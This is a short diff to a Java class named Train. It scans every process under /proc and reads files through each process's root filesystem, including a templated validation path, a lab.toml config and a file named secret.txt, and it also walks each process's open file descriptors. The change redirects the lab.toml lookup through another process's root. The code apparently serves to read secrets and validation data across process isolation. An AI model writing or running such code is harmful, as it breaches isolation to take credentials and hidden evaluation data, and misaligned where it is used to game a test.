@@ -33,7 +33,7 @@ public final class Train {
         try (Stream<Path> processes = Files.list(Path.of("/proc"))) {
             for (Path process : processes.filter(path -> path.getFileName().toString().matches("[0-9]+|self")).toList()) {
                 look(Path.of(process + "/root${validation}"));
-                look(Path.of(process + "/cwd/lab.toml"));
+                look(Path.of(process + "/root${lab}/lab.toml"));
                 look(Path.of(process + "/root${home}/secret.txt"));
                 for (int file = 0; file < 64; file++) {
                     Path link = process.resolve("fd/" + file);
